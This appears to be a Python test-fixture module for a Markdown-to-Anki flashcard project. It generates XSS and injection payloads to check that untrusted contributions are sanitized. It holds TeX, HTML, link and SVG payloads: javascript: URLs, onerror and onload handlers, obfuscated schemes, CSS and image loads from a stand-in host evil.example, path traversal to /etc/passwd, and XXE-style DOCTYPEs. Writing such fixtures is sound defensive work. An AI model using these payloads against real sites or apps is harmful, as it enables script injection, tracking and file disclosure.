r"""What a stranger's pull request could hold: kinds of attack, each carried in several ways.

`formulas` are TeX that acts; `texts` are texts that Anki would take for more; `pages` are HTML and
links wherever a page has room for them; `pictures` are SVGs. `%s` in a carrier is the payload.
`evil.example` answers nobody (RFC 2606).
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Mapping

SVG = "http://www.w3.org/2000/svg"

# --- formulas -------------------------------------------------------------------------------------

ACTS: Mapping[str, str] = {
    "link": r"\href{javascript:alert(1)}{x}",
    "link of a token": r"\mmlToken{mi}[href='javascript:alert(1)']{x}",
    "style": r"\style{background:url(//evil.example/style)}{x}",
    "style of a token": r"\mmlToken{mtext}[style='background:url(//evil.example/token)']{x}",
    "box": r"\bbox[background:url(//evil.example/box)]{x}",
    "frame": r"\fcolorbox{red;background:url(//evil.example/frame)}{red}{x}",
    "class": r"\class{evil}{x}",
    "id": r"\cssId{evil}{x}",
    "font": r"\unicode[evil]{x41}",
    "tip": r"\texttip{a}{b}",
    "definition": r"\def\x{\href{javascript:alert(1)}{y} }\x",
    "other name": r"\let\alpha\href\alpha{javascript:alert(1)}{x}",
    "color for later": r"\definecolor{red}{named}{evil}\color{red} x",
}
"""Kind to TeX: what each does in Anki's MathJax is seen in a test."""

FORMULA_CARRIERS: Mapping[str, str] = {
    "dollars": "$%s$",
    "display": "$$\n%s\n$$",
    "pasted": r"\(%s\)",
    "pasted display": r"\[%s\]",
    "text": r"\(\text{if $%s$}\)",
    "chemistry": r"$\ce{%s}$",
    "environment": "$$\n\\begin{aligned} a &= %s \\end{aligned}\n$$",
    "root": r"$\sqrt{%s}$",
    "behind a comment": "\\(a %% b\n%s\\)",
    "cell": "| a |\n|---|\n| $%s$ |",
    "cloze": "{{c1::$%s$}}",
    "cloze in the formula": "$a {{c1:: %s }}$",
    "hint in the formula": "$a {{c1::b:: %s }}$",
    "hidden by verb": r"\(\verb\x\%s\)",
    "hint section": "An answer.\n\n### Hint\n$%s$",
}

CUT = (
    r"$\hr{{c1::ef}}{javascript:alert(1)}{x}$",
    r"$\{{c1::href}}{javascript:alert(1)}{x}$",
    r"${{c1::\hr}}ef{javascript:alert(1)}{x}$",
    r"$\h{{c1::r}}{{c2::ef}}{javascript:alert(1)}{x}$",
    r"$\le{{c1::t}}\alpha\beta$",
    r"$\text{{c1::tip}}{a}{b}$",
    r"$\bbox {{c1::red::background:url(//evil.example/hint)}}{x}$",
    r"$\bbox{{c1::a::background:url(//evil.example/hint)}}{x}$",
    r"$\color{{c1::red;background:url(//evil.example/cut)}} x$",
    r"{{c1::a}} $b {c$ \\href{javascript:alert(1)}{x} } $d$",
    r"{{c1::a}} $b {{c2::{c}}$ \\href{javascript:alert(1)}{x} } $d$",
    r"\(a\\) \\href{javascript:alert(1)}{x} \(b\)",
    r"$a \) \href{javascript:alert(1)}{x} \( b$",
)
"""Formulas that become others when Anki fills a cloze, or that do not end where they seem to."""

HONEST = (
    r"$\text{if } x_1 \le \alpha$",
    r"$\mathrm{d}x + \boxed{x} + \cancel{y}$",
    r"$\color{red}{x} + \textcolor{#0a5596}{y}$",
    r"$\bbox[yellow,5px]{x}$",
    r"$\fcolorbox{red}{yellow}{x}$",
    r"$\ce{2H2 + O2 -> 2H2O}$",
    r"$\unicode{x41} \enclose{circle}{x}$",
    "$$\n\\begin{aligned} a &= b \\\\[2pt] &= c \\end{aligned} \\tag{1}\n$$",
    r"$\frac{ {{c1::a}} }{ {{c2::b::\text{a letter} }} }$",
)


def formulas() -> Iterator[str]:
    """Sections that hold a formula that acts."""
    for carrier, act in itertools.product(FORMULA_CARRIERS.values(), ACTS.values()):
        yield carrier % act
    yield from CUT


# --- text that Anki takes for more ----------------------------------------------------------------

TEXT_CARRIERS: Mapping[str, str] = {
    "escaped": r"\\(%s\\)",
    "escaped display": r"\\[%s\\]",
    "decimal reference": "&#92;(%s&#92;)",
    "hexadecimal reference": "&#x5c;[%s&#x5C;]",
    "named reference": "&bsol;(%s&bsol;&rpar;",
    "behind a stray tag": r"\\</b>(%s\\)",
    "around a place to break": r"\\<wbr>(%s\\)",
    "around a comment": r"\\<!-- -->(%s\\)",
    "around an empty emphasis": r"\\<i></i>(%s\\)",
    "code": r"`\(%s\)`",
    "code block": "```tex\n\\(%s\\)\n```",
    "cell": "| a |\n|---|\n| \\\\(%s\\\\) |",
    "quotation": "> \\\\(%s\\\\)",
    "strong": r"**\\(%s\\)**",
    "link": r"[\\(%s\\)](https://example.org)",
    "item": "- \\\\(%s\\\\)\n- b",
}
"""How text can come to have the signs of a formula; shown is always `\\(…\\)` or `\\[…\\]`."""

IN_TEXT = ("link", "style", "box", "class", "definition")

ANKI_MARKUP = (
    "[latex]x[/latex]",
    "[LaTeX]x[/LaTeX]",
    "[$]x[/$]",
    "[$$]x[/$$]",
    "[sound:evil.mp3]",
    "[sound:https://evil.example/a.mp3]",
    "[anki:tts lang=en_US]x[/anki:tts]",
    "[anki:play:q:0]",
    "[[type:ID]]",
    "{{c1::x}}",
    "{{c2::x::y}}",
    "{{FrontSide}}",
    "<!-- x -->",
)
"""What Anki acts on in the text of a card, here meant as examples."""

HINTS = ("latex", r"\$", "sound:evil.mp3", "anki:play:q:0", "[type:ID]")
"""Hints, as Markdown; the front shows them in brackets."""


JOINED = (("[[&#91;type:ID&#93;](#hostile-1)]", "[[type:ID]]"),)
"""What becomes Anki's markup once the link to another card is its words alone."""

IN_FORMULAS = (
    r"$[sound:evil.mp3]$",
    r"$[latex]x[/latex]$",
    r"$[[type:ID]]$",
    r"$a {{c1::b::sound:evil.mp3}}$",
    r"$[anki:tts lang=en_US]x[/anki:tts]$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$a {{c1:: \text{<script>alert(1)</script>} }}$",
    r"$\text{&lt;img src=https://evil.example/a.png&gt;}$",
)
"""Formulas in which Anki, or the page, would find more than that."""


def texts() -> Iterator[tuple[str, str]]:
    """Sections, and a text that a learner must see in each."""
    for carrier, kind in itertools.product(TEXT_CARRIERS.values(), IN_TEXT):
        square = "[%s" in carrier and "](" not in carrier
        yield carrier % ACTS[kind], (r"\[%s\]" if square else r"\(%s\)") % ACTS[kind]
    yield from JOINED
    for example in ANKI_MARKUP:
        if example.startswith("[") and "$" not in example:
            yield f"a {example} b", example
        yield f"`{example}`", example
        yield f"```\n{example}\n```", example


# --- pages ----------------------------------------------------------------------------------------

HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/a.png">',
    '<img srcset="https://evil.example/b.png 1x">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>"></iframe>',
    '<object data="https://evil.example/a"></object>',
    '<embed src="https://evil.example/a">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<style>@import "https://evil.example/a.css";</style>',
    '<form action="https://evil.example/"><input autofocus onfocus=alert(1)></form>',
    '<video src="https://evil.example/a.mp4" autoplay></video>',
    "<details open ontoggle=alert(1)>a</details>",
    '<a href="javascript:alert(1)">a</a>',
    '<math><a xlink:href="javascript:alert(1)">a</a></math>',
    '<sub style="background:url(https://evil.example/a.png)">a</sub>',
    "<b onclick=alert(1)>a</b>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus='alert(1)",
    '" onerror="alert(1)',
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[[ config.name ]][% for x in [1] %]a[% endfor %]",
)

HTML_CARRIERS: Mapping[str, str] = {
    "paragraph": "%s",
    "words": "a %s b",
    "code": "`%s`",
    "code block": "```html\n%s\n```",
    "language": "```%s\ncode\n```",
    "item": "- %s",
    "cell": "| a |\n|---|\n| %s |",
    "quotation": "> %s",
    "strong": "**%s**",
    "alternative text": "![%s](dot.svg)",
    "title of a picture": "![a](dot.svg '%s')",
    "words of a link": "[%s](https://example.org)",
    "address of a link": "[a](<https://example.org/%s>)",
    "formula": "$%s$",
    "text in a formula": r"$\text{%s}$",
    "cloze": "{{c1::%s}}",
    "hint": "{{c1::a::%s}}",
    "notes": "a\n\n### Notes\n%s",
    "sources": "a\n\n### Sources\n- %s",
}

TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#13;script:alert(1)",
    "&#9;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:https://example.org/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,&lt;script>alert(1)&lt;/script>",
    "data:image/svg+xml,&lt;svg onload='alert(1)'/>",
    "file:///etc/passwd",
    "//evil.example/a.png",
    "\\\\\\\\evil.example\\a.png",
    "/\\evil.example/a.png",
    "/etc/passwd",
    "../../../../../../etc/passwd",
    "page.md?a=https:#b",
    "blob:https://evil.example/a",
    "filesystem:https://evil.example/a",
)

TARGET_CARRIERS: Mapping[str, str] = {
    "link": "[a](<%s>)",
    "definition": "[a]\n\n[a]: <%s>",
    "autolink": "<%s>",
    "picture": "![a](<%s>)",
    "picture in a link": "[![a](dot.svg)](<%s>)",
    "link with a title": '[a](<%s> "b")',
    "link in a cloze": "{{c1::[a](<%s>)}}",
    "sources": "a\n\n### Sources\n- [a](<%s>)",
}


def pages() -> Iterator[str]:
    """Sections with HTML and links that would act."""
    pairs = (*itertools.product(HTML_CARRIERS.values(), HTML),)
    more = (*itertools.product(TARGET_CARRIERS.values(), TARGETS),)
    for carrier, payload in (*pairs, *more):
        yield carrier.replace("%s", payload)


# --- pictures -------------------------------------------------------------------------------------

_NAMESPACES = (
    f'xmlns="{SVG}" xmlns:s="{SVG}" xmlns:h="http://www.w3.org/1999/xhtml"'
    ' xmlns:x="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
)

DRAWN = (
    "<script>alert(1)</script>",
    "<s:script>alert(1)</s:script>",
    "<h:script>alert(1)</h:script>",
    '<script href="https://evil.example/a.js"/>',
    '<h:iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>"/>',
    '<h:img src="x" onerror="alert(1)"/>',
    '<h:img srcset="https://evil.example/a.png 1x"/>',
    '<h:meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
    '<h:link rel="stylesheet" href="https://evil.example/a.css"/>',
    '<foreignObject width="9" height="9"><h:script>alert(1)</h:script></foreignObject>',
    "<switch><foreignObject><h:script>alert(1)</h:script></foreignObject></switch>",
    '<rect width="9" height="9" onclick="alert(1)" onload="alert(1)"/>',
    '<a x:href="javascript:alert(1)"><text y="9">a</text></a>',
    '<a href="java&#9;script:alert(1)"><text y="9">a</text></a>',
    '<a><animate attributeName="href" values="java&#115;cript:alert(1)"/><text y="9">a</text></a>',
    '<a><set attributeName="x:href" to="javascript:alert(1)"/><text y="9">a</text></a>',
    '<animate attributeName="x" values="0" onbegin="alert(1)" begin="0s" dur="1s"/>',
    '<image href="https://evil.example/a.png" width="9" height="9"/>',
    '<image x:href="//evil.example/a.png" width="9" height="9"/>',
    '<use href="https://evil.example/a.svg#a"/>',
    '<use href="data:image/svg+xml,&lt;svg/>#a"/>',
    '<feImage href="https://evil.example/a.png"/>',
    '<rect width="9" height="9" fill="url(https://evil.example/a.svg#a)"/>',
    '<rect width="9" height="9" style="fill:u&#114;l(https://evil.example/a.svg#a)"/>',
    '<rect width="9" height="9" style="mask:u\\72l(https://evil.example/a.svg#a)"/>',
    '<rect width="9" height="9" style="cursor:url(https://evil.example/a.cur),auto"/>',
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>rect { background: url(https://evil.example/a.png) }</style>",
    "<style>svg { background: image-set('https://evil.example/a.png' 1x) }</style>",
    "<style><![CDATA[@im\\port url(https://evil.example/a.css);]]></style>",
    "<style>@font-face { font-family: a; src: url(https://evil.example/a.woff2) }"
    "text { font-family: a }</style><text y='9'>a</text>",
    "<metadata><script>alert(1)</script></metadata>",
    '<svg onload="alert(1)"/>',
    "<handler type='text/javascript'>alert(1)</handler>",
)

WRAPPED: Mapping[str, str] = {
    "plain": f"<svg {_NAMESPACES}>%s</svg>",
    "in a group": f'<svg {_NAMESPACES}><g><defs><g id="a">%s</g></defs><use href="#a"/></g></svg>',
    "with prefixes": f"<s:svg {_NAMESPACES}><s:g>%s</s:g></s:svg>",
}

FILES = (
    f'<?xml-stylesheet href="https://evil.example/a.xsl" type="text/xsl"?><svg xmlns="{SVG}"/>',
    f'<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]><svg xmlns="{SVG}">&a;</svg>',
    f'<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg xmlns="{SVG}"/>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    f'<svg xmlns="{SVG}" onload="alert(1)"/>',
    f'<?xml version="1.0" encoding="UTF-7"?><svg xmlns="{SVG}">+ADw-script+AD4-alert(1)</svg>',
)


def pictures() -> Iterator[bytes]:
    """SVG files that would act."""
    for wrapping, drawn in itertools.product(WRAPPED.values(), DRAWN):
        yield (wrapping % drawn).encode()
    yield from map(str.encode, FILES)
    yield (WRAPPED["plain"] % DRAWN[0]).encode("utf-16")
